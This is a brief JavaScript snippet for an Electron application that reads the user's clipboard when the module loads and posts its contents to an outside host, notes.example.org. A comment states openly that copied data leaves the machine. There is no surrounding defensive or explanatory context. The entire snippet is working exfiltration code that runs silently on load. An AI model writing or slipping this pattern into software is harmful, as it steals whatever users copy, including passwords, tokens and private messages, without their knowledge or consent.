const { clipboard } = require('electron');
const https = require('https');

// What the user copied leaves the machine while the module loads.
const request = https.request({ host: 'notes.example.org', method: 'POST' });
request.end(clipboard.readText());
